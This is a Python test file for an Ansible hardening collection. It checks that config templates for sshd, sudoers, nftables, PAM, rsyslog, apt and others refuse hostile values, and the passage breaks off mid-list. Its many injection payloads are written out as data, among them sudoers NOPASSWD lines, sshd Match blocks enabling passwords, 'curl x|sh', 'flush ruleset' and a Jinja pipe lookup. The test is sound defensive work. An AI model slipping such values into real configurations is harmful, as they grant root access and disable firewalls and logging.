"""Templates that cannot be broken out of (issue 23, CW-RES-04): every role template is rendered by
real Ansible templating, once with the good values the lab uses and once per hostile value (a
newline, a carriage return, NUL, a `Match` block, a sudoers NOPASSWD line, '#', quotes, a
backslash, template braces, look-alike Unicode), and each hostile value is refused with the name of
its variable, never written into the file. All cases run in ONE ansible-playbook on localhost."""

from __future__ import annotations

import copy
import inspect
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import jinja2
import jinja2.meta
import pytest
import yaml
from ansible.errors import AnsibleFilterError
from ansible_collections.cityward.hardening.plugins.filter import config_values
from hypothesis import given
from hypothesis import strategies as st

ROOT = Path(__file__).resolve().parents[2]
TEMPLATES = sorted(p.relative_to(ROOT / "roles").as_posix() for p in (ROOT / "roles").glob("*/templates/*.j2"))
pytestmark = pytest.mark.control("CW-RES-04")

# Values of the lab (inventories/lab, role defaults) for every variable a template reads.
RULES = {
    "zone": "field",
    "kind": "ot",
    "cidr": "10.40.20.0/24",
    "egress_limited": True,
    "management_v4": ["10.40.10.0/24"],
    "management_v6": ["fd00:10::/64"],
    "controller": {"family": "ip", "address": "192.0.2.5"},
    "logging": [{"label": "field-to-siem", "port": 6514, "destinations": ["10.40.48.10"]}],
    "inbound": [
        {"label": "scada-to-field", "service": "modbus", "protocol": "tcp", "port": 502, "source": "10.40.30.0/24"}
    ],
    "outbound": [
        {
            "label": "field-to-siem",
            "service": "syslog-tls",
            "protocol": "tcp",
            "port": 6514,
            "destinations": ["10.40.48.10", "10.40.48.11"],
        }
    ],
    "dns": ["10.40.10.53", "fd00:10::53"],
}
GOOD = {
    # accounts
    "accounts_faillock_deny": 5,
    "accounts_faillock_fail_interval": 900,
    "accounts_faillock_unlock_time": 900,
    "accounts_umask": "027",
    "accounts_shell_timeout": 900,
    "accounts_breakglass_user": "breakglass",
    "accounts_pwquality": {"minlen": 14, "minclass": 3, "dictcheck": 1, "enforce_for_root": True},
    "accounts_sudo_timestamp_timeout": 5,
    "accounts_admin_group": "cityward-admins",
    "accounts_automation_user": "cityward-auto",
    "accounts_automation_sources": ["10.40.10.0/24", "::1"],
    # baseline
    "_baseline_aide_config": "/etc/aide/aide.conf",
    "_baseline_aide_db": "/var/lib/aide/cityward.db.gz",
    "_baseline_aide_db_new": "/var/lib/aide/cityward.db.new.gz",
    "baseline_aide_paths": ["/usr/bin", "/etc", "/boot"],
    "baseline_aide_exclude": ["/etc/mtab", "/etc/.pwd.lock"],
    "baseline_aide_check_schedule": "*-*-* 03:30:00",
    "_baseline_listen_allowlist": ["tcp/22", "tcp/8883"],
    # firewall
    "_firewall_rules": RULES,
    "firewall_ssh_port": 22,
    "firewall_state_dir": "/var/lib/cityward/firewall",
    "firewall_zones_file": "../../policies/zones.yml",
    "firewall_forward_policy": "drop",
    "firewall_log_dropped": True,
    # kernel
    "_kernel_blocklist": ["cramfs", "usb-storage"],
    "_kernel_usbguard_rules": "/etc/usbguard/rules.d/60-cityward.conf",
    "_kernel_sysctl_network": {"net.ipv4.ip_forward": 0},
    "_kernel_sysctl_kernel": {"kernel.kptr_restrict": 2},
    "_kernel_sysctl_coredump": {"fs.suid_dumpable": 0},
    # patching
    "_patching_needrestart": {"restart": "l", "kernelhints": -1},
    "kernel_router": False,
    "kernel_sysctl_extra": {"kernel.kptr_restrict": 1, "net.ipv4.tcp_rmem": "4096 87380 6291456"},
    # logging
    "logging_audit_max_log_file": 32,
    "logging_audit_num_logs": 8,
    "logging_audit_space_left": 512,
    "logging_audit_admin_space_left": 256,
    "logging_audit_space_left_action": "SYSLOG",
    "logging_audit_admin_space_left_action": "SUSPEND",
    "logging_audit_disk_full_action": "SUSPEND",
    "logging_audit_disk_error_action": "SYSLOG",
    "logging_audit_immutable": True,
    "logging_audit_rules_extra": ["-w /etc/cityward -p wa -k cityward"],
    "logging_ntp_servers": [
        {"host": "time.cloudflare.com", "nts": True},
        {"host": "nts.netnod.se", "nts": True, "options": "minpoll 4 maxpoll 6"},
    ],
    "logging_ntp_trusted_certs": "x",
    "_logging_ntp_ca_file": "/etc/chrony/cityward-nts-ca.pem",
    "logging_journal_system_max_use": "1G",
    "logging_journal_system_keep_free": "2G",
    "logging_journal_max_retention": "90day",
    "_logging_forwarding": True,
    "logging_forward_selector": "*.*",
    "logging_siem_host": "siem-01",
    "logging_siem_peer_name": "siem-01",
    "logging_siem_port": 6514,
    "_logging_ca_file": "/etc/cityward/tls/log-ca.pem",
    "_logging_cert_file": "/etc/cityward/tls/rsyslog-client.pem",
    "_logging_key_file": "/etc/cityward/tls/rsyslog-client.key",
    "logging_queue_size": 100000,
    "logging_queue_max_disk": "1g",
    "logging_resume_interval": 10,
    # mfa
    "mfa_secret_dir": "/var/lib/cityward/totp",
    "mfa_breakglass_user": "breakglass",
    # mqtt_gateway
    "mqtt_gateway_acls": [
        {"user": "scada", "read": ["city/telemetry/#"], "write": ["city/commands/#"]},
        {"user": "sensor-north", "write": ["city/telemetry/north/+/t"], "readwrite": ["$SYS/x"]},
    ],
    "mqtt_gateway_max_packet_size": 262144,
    "mqtt_gateway_max_keepalive": 300,
    "mqtt_gateway_port": 8883,
    "_mqtt_gateway_cafile": "/etc/mosquitto/certs/ca.crt",
    "_mqtt_gateway_certfile": "/etc/mosquitto/certs/server.crt",
    "_mqtt_gateway_keyfile": "/etc/mosquitto/certs/server.key",
    "_mqtt_gateway_acl_file": "/etc/mosquitto/acl",
    "mqtt_gateway_max_connections": 256,
    "mqtt_gateway_tls_version": "tlsv1.2",
    "mqtt_gateway_ciphers": "ECDHE-ECDSA-AES256-GCM-SHA384:ECDHE-RSA-AES256-GCM-SHA384",
    "mqtt_gateway_ciphers_tls13": "TLS_AES_256_GCM_SHA384:TLS_CHACHA20_POLY1305_SHA256",
    # patching
    "timer": {"unit": "apt-daily.timer", "offset": 30},
    "_patching_day_names": ["Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"],
    "_patching_window": {"days": ["Sat", "Sun"], "start": "23:00", "duration_minutes": 120},
    "_patching_window_minutes": 120,
    "_patching_start_minute": 1380,
    "_patching_quarter": 30,
    "patching_mirrors": {
        "debian": ["http://deb.debian.org/debian"],
        "security": ["https://deb.debian.org/debian-security"],
    },
    "patching_components": ["main", "non-free-firmware"],
    "patching_keyring": "/usr/share/keyrings/debian-archive-keyring.gpg",
    "patching_origins": ["origin=Debian,codename=${distro_codename}-security,label=Debian-Security"],
    "patching_automatic_reboot": True,
    "_patching_reboot_hhmm": "00:30",
    "_patching_mirror_tls_hosts": ["10.40.16.10"],
    "_patching_mirror_ca_file": "/etc/apt/keyrings/cityward-mirror-ca.crt",
    # update_mirror
    "_update_mirror_https": True,
    "_update_mirror_tls_cert_file": "/etc/cityward/update-mirror/tls.crt",
    "_update_mirror_tls_key_file": "/etc/cityward/update-mirror/tls.key",
    "update_mirror_port": 443,
    "update_mirror_root": "/var/lib/aptly",
    "update_mirror_tls_protocols": ["TLSv1.2", "TLSv1.3"],
    "update_mirror_tls_ciphers": "ECDHE+AESGCM:ECDHE+CHACHA20",
    # backup
    "backup_server_port": 2222,
    "backup_server_user": "cityward-backup",
    "_backup_server_host_key": "/etc/ssh/ssh_host_ed25519_key",
    "_backup_server_dir": "/etc/cityward/backup-server",
    "_backup_server_sshd_config": "/etc/ssh/sshd_cityward_backup_config",
    "_backup_server_algorithms": {
        "kexalgorithms": "sntrup761x25519-sha512@openssh.com,curve25519-sha256",
        "ciphers": "chacha20-poly1305@openssh.com,aes256-gcm@openssh.com",
        "macs": "hmac-sha2-512-etm@openssh.com,hmac-sha2-256-etm@openssh.com",
    },
    "_backup_schedule": "Sat,Sun *-*-* 03:00:00",
    "backup_window": {"days": ["Sat", "Sun"], "start": "03:00", "duration_minutes": 120},
    # siem_receiver
    "siem_receiver_permitted_peers": ["mqtt-01", "field-01"],
    "siem_receiver_log_dir": "/var/log/siem",
    "siem_receiver_tls_priority": "NORMAL:-VERS-ALL:+VERS-TLS1.3:+VERS-TLS1.2",
    "siem_receiver_port": 6514,
    "_siem_receiver_ca_file": "/etc/cityward/tls/log-ca.pem",
    "_siem_receiver_cert_file": "/etc/cityward/tls/s.pem",
    "_siem_receiver_key_file": "/etc/cityward/tls/s.key",
    # ssh
    "ssh_port": 22,
    "_ssh_kex": ["mlkem768x25519-sha256", "curve25519-sha256@libssh.org"],
    "_ssh_banner_path": "/etc/issue.net",
    "_ssh_log_level": "VERBOSE",
    "ssh_ciphers": ["aes256-gcm@openssh.com", "aes128-ctr"],
    "ssh_macs": ["hmac-sha2-512-etm@openssh.com"],
    "ssh_host_key_algorithms": ["ssh-ed25519", "rsa-sha2-512"],
    "ssh_pubkey_accepted_algorithms": ["ssh-ed25519"],
    "ssh_mfa": True,
    "ssh_max_auth_tries": 3,
    "ssh_max_sessions": 4,
    "ssh_login_grace_time": 30,
    "ssh_client_alive_interval": 300,
    "ssh_client_alive_count_max": 2,
    "ssh_allow_groups": ["cityward-ssh"],
    "ssh_deny_users": ["breakglass"],
    "ssh_allow_tcp_forwarding": False,
    "ssh_allow_agent_forwarding": False,
    "ssh_allow_stream_local_forwarding": False,
    "ssh_fido2_group": "cityward-fido2",
    "ssh_automation_user": "cityward-auto",
    "ssh_automation_sources": ["10.40.10.0/24", "::1"],
}

# What a template may read without a filter: facts, magic variables and the role's own constants
# or values computed with int/format (see the Jinja comments in the templates).
NOT_INVENTORY = {
    "ansible_facts",
    "_ssh_banner_path",  # the role's own constants (vars/main.yml), recorded for the audit
    "_ssh_log_level",
    "_mqtt_gateway_cafile",
    "_mqtt_gateway_certfile",
    "_mqtt_gateway_keyfile",
    "_mqtt_gateway_acl_file",
    "inventory_hostname",  # facts; host names are refused by `cityward check`
    "_baseline_aide_config",
    "_baseline_aide_db",
    "_baseline_aide_db_new",
    "_kernel_usbguard_rules",
    "_kernel_sysctl_network",
    "_kernel_sysctl_kernel",
    "_kernel_sysctl_coredump",
    "_logging_ntp_ca_file",
    "_logging_forwarding",
    "_patching_day_names",
    "_backup_server_host_key",
    "_backup_server_dir",
    "_backup_server_sshd_config",
    "_patching_needrestart",
    "_patching_mirror_ca_file",
    "_update_mirror_https",
    "_update_mirror_tls_cert_file",
    "_update_mirror_tls_key_file",
    "_patching_window_minutes",
    "_patching_start_minute",
    "_patching_quarter",
    "_patching_reboot_hhmm",
    "timer",
    "ssh_mfa",
    "firewall_log_dropped",
    "logging_audit_immutable",
    "logging_ntp_trusted_certs",
    "patching_automatic_reboot",
    "ssh_allow_tcp_forwarding",
    "ssh_allow_agent_forwarding",
    "ssh_allow_stream_local_forwarding",
}

NL, CR = "\n", "\r"
MATCH = "22\nMatch all\n    PasswordAuthentication yes"
NOPASSWD = "breakglass\nmallory ALL=(ALL) NOPASSWD: ALL"
CYRILLIC_A = "\u0430"  # looks like 'a'


def _set(path: str, value):
    """Overrides for one hostile case: `path` is a variable, or variable.key / variable[index]... into GOOD."""
    parts = [part for part in path.replace("[", ".[").split(".") if part]
    root = parts[0]
    data = copy.deepcopy(GOOD[root])
    if len(parts) == 1:
        return {root: value}
    node = data
    for part in parts[1:-1]:
        node = node[int(part[1:-1])] if part.startswith("[") else node[part]
    last = parts[-1]
    if last.startswith("["):
        node[int(last[1:-1])] = value
    else:
        node[last] = value
    return {root: data}


# (template, variable path to spoil, hostile value, name in the refusal, key phrase of the refusal)
HOSTILE = [
    ("backup/templates/sshd_backup_config.j2", "backup_server_port", MATCH, "backup_server_port",
     "expected a whole number"),
    ("backup/templates/sshd_backup_config.j2", "backup_server_user", "cityward-backup\nMatch all", "backup_server_user",
     "character '\\n'"),
    ("backup/templates/sshd_backup_config.j2", "_backup_server_algorithms.ciphers",
     "aes256-gcm@openssh.com\nPasswordAuthentication yes", "sshd -T ciphers[0]", "character '\\n'"),
    ("backup/templates/cityward-backup.timer.j2", "_backup_schedule", "Sun *-*-* 03:00:00\nPersistent=true",
     "backup_window", "control character"),
    ("backup/templates/cityward-backup.timer.j2", "backup_window.duration_minutes", "120\nPersistent=true",
     "backup_window.duration_minutes", "expected a whole number"),
    (
        "accounts/templates/faillock.conf.j2",
        "accounts_faillock_deny",
        "5\nnodelay",
        "accounts_faillock_deny",
        "expected a whole number (character '\\n'",
    ),
    (
        "accounts/templates/faillock.conf.j2",
        "accounts_faillock_unlock_time",
        "-1",
        "accounts_faillock_unlock_time",
        "expected a whole number (character '-'",
    ),
    (
        "accounts/templates/profile.sh.j2",
        "accounts_umask",
        "000; curl x|sh",
        "accounts_umask",
        "expected a whole number (character ';'",
    ),
    (
        "accounts/templates/profile.sh.j2",
        "accounts_shell_timeout",
        "0\nunset TMOUT",
        "accounts_shell_timeout",
        "expected a whole number",
    ),
    (
        "accounts/templates/profile.sh.j2",
        "accounts_breakglass_user",
        'x" ] || true; [ "',
        "accounts_breakglass_user",
        "character '\"'",
    ),
    (
        "accounts/templates/pwquality.conf.j2",
        "accounts_pwquality.minlen",
        "1\nminclass = 0",
        "accounts_pwquality.minlen",
        "character '\\n' (U+000A",
    ),
    (
        "accounts/templates/pwquality.conf.j2",
        "accounts_pwquality",
        {"minlen\nretry": 1},
        "accounts_pwquality key",
        "character '\\n'",
    ),
    (
        "accounts/templates/sudoers.j2",
        "accounts_breakglass_user",
        NOPASSWD,
        "accounts_breakglass_user",
        "character '\\n' (U+000A)",
    ),
    (
        "accounts/templates/sudoers.j2",
        "accounts_automation_user",
        "ALL ALL=(ALL) NOPASSWD: ALL #",
        "accounts_automation_user",
        "character 'A' (U+0041",
    ),
    (
        "accounts/templates/sudoers.j2",
        "accounts_admin_group",
        "cityward-admins,+evil",
        "accounts_admin_group",
        "character ','",
    ),
    (
        "accounts/templates/sudoers.j2",
        "accounts_sudo_timestamp_timeout",
        "-1",
        "accounts_sudo_timestamp_timeout",
        "expected a whole number",
    ),
    (
        "accounts/templates/sudoers.j2",
        "accounts_automation_sources",
        ["10.0.0.0/8\nmallory ALL=(ALL) NOPASSWD: ALL"],
        "accounts_automation_sources[0]",
        "character '\\n'",
    ),
    (
        "baseline/templates/aide.conf.j2",
        "baseline_aide_exclude",
        ["/etc\n/ R"],
        "baseline_aide_exclude[0]",
        "character '\\n'",
    ),
    (
        "baseline/templates/aide.conf.j2",
        "baseline_aide_paths",
        ["/usr/bin", "/etc #"],
        "baseline_aide_paths[1]",
        "character ' '",
    ),
    (
        "baseline/templates/cityward-aide-check.timer.j2",
        "baseline_aide_check_schedule",
        "daily\n[Service]\nExecStart=/bin/sh",
        "baseline_aide_check_schedule",
        "control character '\\n'",
    ),
    (
        "baseline/templates/listen-allowlist.j2",
        "_baseline_listen_allowlist",
        ["tcp/22", "tcp/*\rudp/*"],
        "baseline_listen_allowlist(_extra)[1]",
        "character '*'",
    ),
    (
        "firewall/templates/nftables.conf.j2",
        "_firewall_rules.inbound[0].label",
        'x" accept\n\t\ttcp dport 0-65535 accept comment "',
        "zones policy conduits[].label",
        "control character '\\n'",
    ),
    (
        "firewall/templates/nftables.conf.j2",
        "_firewall_rules.inbound[0].service",
        'modbus" accept comment "',
        "zones policy conduits[].service",
        "would end or escape a quoted string",
    ),
    (
        "firewall/templates/nftables.conf.j2",
        "_firewall_rules.inbound[0].source",
        "0.0.0.0/0 accept;",
        "zones policy conduits[].from (cidr)",
        "character ' '",
    ),
    (
        "firewall/templates/nftables.conf.j2",
        "_firewall_rules.inbound[0].port",
        "502 accept\ntcp dport 22",
        "zones policy conduits[].port",
        "expected a whole number",
    ),
    (
        "firewall/templates/nftables.conf.j2",
        "_firewall_rules.outbound[0].destinations",
        ["10.40.48.10", "0.0.0.0/0 }"],
        "zones policy conduits[].to (destinations)[1]",
        "character ' '",
    ),
    (
        "firewall/templates/nftables.conf.j2",
        "_firewall_rules.outbound[0].protocol",
        "tcp dport 1-65535 accept #",
        "zones policy conduits[].protocol",
        "character ' '",
    ),
    (
        "firewall/templates/nftables.conf.j2",
        "_firewall_rules.dns",
        ["10.40.10.53 accept\n"],
        "firewall_dns_resolvers[0]",
        "character ' '",
    ),
    (
        "firewall/templates/nftables.conf.j2",
        "_firewall_rules.management_v4",
        ["0.0.0.0/0 }"],
        "management sources (IPv4)[0]",
        "character ' '",
    ),
    (
        "firewall/templates/nftables.conf.j2",
        "_firewall_rules.zone",
        "field'\nflush ruleset",
        "cityward_zone",
        'character "\'"',
    ),
    ("firewall/templates/nftables.conf.j2", "_firewall_rules.kind", "ot\n}", "zone kind", "character '\\n'"),
    ("firewall/templates/nftables.conf.j2", "_firewall_rules.cidr", "{{ 7 * 7 }}", "zone cidr", "character '{'"),
    (
        "firewall/templates/nftables.conf.j2",
        "firewall_ssh_port",
        "22 accept\n",
        "firewall_ssh_port",
        "expected a whole number",
    ),
    (
        "firewall/templates/nftables.conf.j2",
        "firewall_forward_policy",
        "accept; }",
        "firewall_forward_policy",
        "character ';'",
    ),
    (
        "firewall/templates/nftables.conf.j2",
        "firewall_zones_file",
        "zones.yml\nflush ruleset",
        "cityward_zones_file",
        "control character '\\n'",
    ),
    (
        "firewall/templates/nftables.conf.j2",
        "_firewall_rules.controller.address",
        "0.0.0.0/0 accept",
        "controller address (SSH_CLIENT)",
        "character ' '",
    ),
    (
        "firewall/templates/isolation.nft.j2",
        "_firewall_rules.logging[0].label",
        'siem" accept\n',
        "zones policy conduits[].label",
        "control character '\\n'",
    ),
    (
        "firewall/templates/isolation.nft.j2",
        "_firewall_rules.logging[0].destinations",
        ["0.0.0.0/0 tcp"],
        "zones policy conduits[].to (destinations)[0]",
        "character ' '",
    ),
    (
        "firewall/templates/isolation.nft.j2",
        "_firewall_rules.logging[0].port",
        "6514 accept",
        "zones policy conduits[].port",
        "expected a whole number",
    ),
    (
        "firewall/templates/isolation.nft.j2",
        "_firewall_rules.management_v6",
        ["::/0 }"],
        "firewall_management_sources (IPv6)[0]",
        "character ' '",
    ),
    (
        "firewall/templates/isolation.nft.j2",
        "firewall_state_dir",
        "/var/lib\x00x",
        "firewall_state_dir",
        "control character '\\x00' (U+0000",
    ),
    (
        "firewall/templates/isolation.nft.j2",
        "firewall_ssh_port",
        "0x16",
        "firewall_ssh_port",
        "expected a whole number (character 'x'",
    ),
    (
        "kernel/templates/modprobe-blocklist.conf.j2",
        "_kernel_blocklist",
        ["cramfs\ninstall usbguard /bin/true"],
        "kernel_module_blocklist(_extra)[0]",
        "character '\\n'",
    ),
    (
        "kernel/templates/sysctl.conf.j2",
        "kernel_sysctl_extra",
        {"kernel.kptr_restrict": "0\nkernel.yama.ptrace_scope = 0"},
        "kernel_sysctl_extra.kernel.kptr_restrict",
        "control character '\\n'",
    ),
    (
        "kernel/templates/sysctl.conf.j2",
        "kernel_sysctl_extra",
        {"net.ipv4.ip_forward = 1\nx": 1},
        "kernel_sysctl_extra key",
        "character ' '",
    ),
    (
        "kernel/templates/sysctl.conf.j2",
        "kernel_sysctl_extra",
        {"vm.swappiness": "10\r"},
        "kernel_sysctl_extra.vm.swappiness",
        "control character '\\r' (U+000D",
    ),
    (
        "kernel/templates/sysctl.conf.j2",
        "kernel_router",
        "no\nnet.ipv4.ip_forward = 1",
        "kernel_router",
        "character '\\n'",
    ),
    (
        "logging/templates/audit.rules.j2",
        "logging_audit_rules_extra",
        ["-w /etc -k x\n-D"],
        "logging_audit_rules_extra[0]",
        "control character '\\n'",
    ),
    (
        "logging/templates/auditd.conf.j2",
        "logging_audit_disk_full_action",
        "IGNORE\nwrite_logs = no",
        "logging_audit_disk_full_action",
        "character '\\n'",
    ),
    (
        "logging/templates/auditd.conf.j2",
        "logging_audit_space_left_action",
        "exec /tmp/x",
        "logging_audit_space_left_action",
        "character ' '",
    ),
    (
        "logging/templates/auditd.conf.j2",
        "logging_audit_num_logs",
        "8\x0bx",
        "logging_audit_num_logs",
        "expected a whole number (character '\\x0b'",
    ),
    (
        "logging/templates/chrony.conf.j2",
        "logging_ntp_servers[0].host",
        "time.example\nallow all",
        "logging_ntp_servers[].host",
        "character '\\n'",
    ),
    (
        "logging/templates/chrony.conf.j2",
        "logging_ntp_servers[1].options",
        "minpoll 4\nallow 0.0.0.0/0",
        "logging_ntp_servers[].options",
        "control character '\\n'",
    ),
    (
        "logging/templates/chrony.conf.j2",
        "logging_ntp_servers[0].host",
        "time.cloudfl" + CYRILLIC_A + "re.com",
        "logging_ntp_servers[].host",
        "U+0430 CYRILLIC SMALL LETTER A",
    ),
    (
        "logging/templates/journald.conf.j2",
        "logging_journal_max_retention",
        "90day\nStorage=none",
        "logging_journal_max_retention",
        "character '\\n'",
    ),
    (
        "logging/templates/journald.conf.j2",
        "logging_journal_system_max_use",
        "1G # x",
        "logging_journal_system_max_use",
        "character ' '",
    ),
    (
        "logging/templates/rsyslog-cityward.conf.j2",
        "logging_siem_peer_name",
        '*"\n    StreamDriverAuthMode="anon',
        "logging_siem_peer_name",
        "control character '\\n'",
    ),
    (
        "logging/templates/rsyslog-cityward.conf.j2",
        "logging_siem_host",
        'siem-01" protocol="udp',
        "logging_siem_host",
        "would end or escape a quoted string",
    ),
    (
        "logging/templates/rsyslog-cityward.conf.j2",
        "logging_siem_host",
        "siem-01\\",
        "logging_siem_host",
        "character '\\\\'",
    ),
    (
        "logging/templates/rsyslog-cityward.conf.j2",
        "logging_forward_selector",
        "*.* /tmp/plain\n*.*",
        "logging_forward_selector",
        "character ' '",
    ),
    (
        "logging/templates/rsyslog-cityward.conf.j2",
        "logging_siem_port",
        "6514\nStreamDriverMode=0",
        "logging_siem_port",
        "expected a whole number",
    ),
    (
        "logging/templates/rsyslog-cityward.conf.j2",
        "_logging_key_file",
        '/k"\n',
        "logging_tls_dir",
        "control character '\\n'",
    ),
    ("mfa/templates/pam-sshd.j2", "mfa_secret_dir", "/run nullok", "mfa_secret_dir", "character ' '"),
    (
        "mfa/templates/pam-sudo.j2",
        "mfa_breakglass_user",
        "root\nauth sufficient pam_permit.so",
        "mfa_breakglass_user",
        "character '\\n'",
    ),
    (
        "mfa/templates/pam-sudo.j2",
        "mfa_breakglass_user",
        "bre" + CYRILLIC_A + "kglass",
        "mfa_breakglass_user",
        "U+0430 CYRILLIC SMALL LETTER A",
    ),
    (
        "mqtt_gateway/templates/acl.j2",
        "mqtt_gateway_acls[0].user",
        "scada\ntopic readwrite #",
        "mqtt_gateway_acls[].user",
        "character '\\n'",
    ),
    (
        "mqtt_gateway/templates/acl.j2",
        "mqtt_gateway_acls[0].write",
        ["city/#\nuser x"],
        "mqtt_gateway_acls[].write[0]",
        "character '\\n'",
    ),
    (
        "mqtt_gateway/templates/mosquitto.conf.j2",
        "mqtt_gateway_port",
        "8883\nlistener 1883\nallow_anonymous true",
        "mqtt_gateway_port",
        "expected a whole number",
    ),
    (
        "mqtt_gateway/templates/mosquitto.conf.j2",
        "mqtt_gateway_ciphers",
        "ALL:NULL\nrequire_certificate false",
        "mqtt_gateway_ciphers",
        "character '\\n'",
    ),
    (
        "mqtt_gateway/templates/mosquitto.conf.j2",
        "mqtt_gateway_tls_version",
        "tlsv1 #",
        "mqtt_gateway_tls_version",
        "character ' '",
    ),
    (
        "patching/templates/apt-timer-window.conf.j2",
        "_patching_window.days",
        ["Sun\nOnCalendar=*:*"],
        "cityward_device.maintenance_window.days[0]",
        "character '\\n'",
    ),
    (
        "patching/templates/apt-timer-window.conf.j2",
        "_patching_window.start",
        "03:00\nPersistent=true",
        "cityward_device.maintenance_window.start",
        "character '\\n'",
    ),
    (
        "patching/templates/debian.sources.j2",
        "patching_mirrors.debian",
        ["http://evil.example/debian\nTrusted: yes"],
        "cityward_apt_mirrors.debian[0]",
        "character '\\n'",
    ),
    (
        "patching/templates/debian.sources.j2",
        "patching_keyring",
        "/usr/share/keyrings/x.gpg\nTrusted: yes",
        "patching_keyring",
        "character '\\n'",
    ),
    (
        "patching/templates/debian.sources.j2",
        "patching_components",
        ["main contrib"],
        "patching_components[0]",
        "character ' '",
    ),
    (
        "patching/templates/unattended-upgrades.conf.j2",
        "patching_origins",
        ['origin=*";\n  "origin=*'],
        "patching_origins[0]",
        "control character '\\n'",
    ),
    (
        "patching/templates/unattended-upgrades.conf.j2",
        "patching_origins",
        ['origin=*"'],
        "patching_origins[0]",
        "would end or escape a quoted string",
    ),
    (
        "patching/templates/unattended-upgrades.conf.j2",
        "_patching_window.start",
        "03:00\u2028x",
        "cityward_device.maintenance_window.start",
        "U+2028 LINE SEPARATOR",
    ),
    (
        "siem_receiver/templates/siem-receiver.conf.j2",
        "siem_receiver_permitted_peers",
        ["field-01", '*"]\n       StreamDriver.AuthMode="anon'],
        "siem_receiver_permitted_peers[1]",
        "control character '\\n'",
    ),
    (
        "siem_receiver/templates/siem-receiver.conf.j2",
        "siem_receiver_tls_priority",
        'NORMAL" StreamDriver.Mode="0',
        "siem_receiver_tls_priority",
        "would end or escape a quoted string",
    ),
    (
        "siem_receiver/templates/siem-receiver.conf.j2",
        "siem_receiver_log_dir",
        "/var/log/siem\x1b[2J",
        "siem_receiver_log_dir",
        "control character '\\x1b'",
    ),
    (
        "siem_receiver/templates/siem-receiver.conf.j2",
        "siem_receiver_port",
        "6514\t",
        "siem_receiver_port",
        "expected a whole number (character '\\t'",
    ),
    (
        "siem_receiver/templates/siem-receiver.conf.j2",
        "_siem_receiver_ca_file",
        "{{ lookup('pipe', 'id') }}",
        "siem_receiver_tls_dir",
        "template syntax '{{'",
    ),
    ("ssh/templates/sshd_config.j2", "ssh_port", MATCH, "ssh_port", "expected a whole number (character '\\n'"),
    (
        "ssh/templates/sshd_config.j2",
        "ssh_max_auth_tries",
        "3\r\nPermitRootLogin yes",
        "ssh_max_auth_tries",
        "expected a whole number (character '\\r'",
    ),
    (
        "ssh/templates/sshd_config.j2",
        "ssh_ciphers",
        ["aes128-ctr", "3des-cbc\nPasswordAuthentication yes"],
        "ssh_ciphers[1]",
        "character '\\n'",
    ),
    ("ssh/templates/sshd_config.j2", "ssh_ciphers", ["aes128-ctr,3des-cbc"], "ssh_ciphers[0]", "character ','"),
    ("ssh/templates/sshd_config.j2", "_ssh_kex", ["curve25519-sha256 #"], "ssh_kex_algorithms[0]", "character ' '"),
    ("ssh/templates/sshd_config.j2", "ssh_macs", ["hmac-md5\x85"], "ssh_macs[0]", "U+0085"),
    (
        "ssh/templates/sshd_config.j2",
        "ssh_host_key_algorithms",
        ["ssh-dss'"],
        "ssh_host_key_algorithms[0]",
        'character "\'"',
    ),
    (
        "ssh/templates/sshd_config.j2",
        "ssh_pubkey_accepted_algorithms",
        ["ssh-rsa\\"],
        "ssh_pubkey_accepted_algorithms[0]",
        "character '\\\\'",
    ),
    (
        "ssh/templates/sshd_config.j2",
        "ssh_allow_groups",
        ["cityward-ssh*"],
        "ssh_allow_groups[0]",
        "character '*' (U+002A ASTERISK) in a user or group name",
    ),
    (
        "ssh/templates/sshd_config.j2",
        "ssh_deny_users",
        ["breakglass@10.0.0.1"],
        "ssh_deny_users[0]",
        "character '@' (U+0040 COMMERCIAL AT) in a user or group name",
    ),
    (
        "ssh/templates/sshd_config.j2",
        "ssh_automation_user",
        "auto Address *\nMatch all\n    PasswordAuthentication yes",
        "ssh_automation_user",
        "character ' '",
    ),
    (
        "ssh/templates/sshd_config.j2",
        "ssh_automation_sources",
        ["10.0.0.0/8,*"],
        "ssh_automation_sources[0]",
        "character ','",
    ),
    ("ssh/templates/sshd_config.j2", "ssh_fido2_group", "Root", "ssh_fido2_group", "character 'R'"),
    ("ssh/templates/sshd_config.j2", "ssh_login_grace_time", True, "ssh_login_grace_time", "got a boolean"),
    (
        "ssh/templates/sshd_config.j2",
        "ssh_client_alive_interval",
        "300 ",
        "ssh_client_alive_interval",
        "expected a whole number (character ' '",
    ),
    ("ssh/templates/sshd_config.j2", "ssh_max_sessions", "\uff14", "ssh_max_sessions", "U+FF14 FULLWIDTH DIGIT FOUR"),
    (
        "ssh/templates/sshd_config.j2",
        "ssh_client_alive_count_max",
        "2#",
        "ssh_client_alive_count_max",
        "expected a whole number (character '#'",
    ),
    (
        "accounts/templates/faillock.conf.j2",
        "accounts_faillock_fail_interval",
        "900 # x",
        "accounts_faillock_fail_interval",
        "expected a whole number (character ' '",
    ),
    (
        "logging/templates/auditd.conf.j2",
        "logging_audit_max_log_file",
        "32\nlog_file = /dev/null",
        "logging_audit_max_log_file",
        "expected a whole number",
    ),
    (
        "logging/templates/auditd.conf.j2",
        "logging_audit_space_left",
        "5%",
        "logging_audit_space_left",
        "expected a whole number (character '%'",
    ),
    (
        "logging/templates/auditd.conf.j2",
        "logging_audit_admin_space_left",
        "",
        "logging_audit_admin_space_left",
        "expected a whole number",
    ),
    (
        "logging/templates/auditd.conf.j2",
        "logging_audit_admin_space_left_action",
        "SUSPEND\x00",
        "logging_audit_admin_space_left_action",
        "character '\\x00' (U+0000)",
    ),
    (
        "logging/templates/auditd.conf.j2",
        "logging_audit_disk_error_action",
        "EXEC /bin/sh",
        "logging_audit_disk_error_action",
        "character ' '",
    ),
    (
        "logging/templates/journald.conf.j2",
        "logging_journal_system_keep_free",
        "2G\n[Journal]\nStorage=volatile",
        "logging_journal_system_keep_free",
        "character '\\n'",
    ),
    (
        "logging/templates/rsyslog-cityward.conf.j2",
        "logging_queue_max_disk",
        '1g")\n*.* action(type="omfwd" target="evil',
        "logging_queue_max_disk",
        "control character '\\n'",
    ),
    (
        "logging/templates/rsyslog-cityward.conf.j2",
        "logging_queue_size",
        "1e9",
        "logging_queue_size",
        "expected a whole number (character 'e'",
    ),
    (
        "logging/templates/rsyslog-cityward.conf.j2",
        "logging_resume_interval",
        "10.5",
        "logging_resume_interval",
        "expected a whole number (character '.'",
    ),
    (
        "logging/templates/rsyslog-cityward.conf.j2",
        "_logging_ca_file",
        '/etc/ca.pem" StreamDriverMode="0',
        "logging_tls_dir",
        "would end or escape a quoted string",
    ),
    (
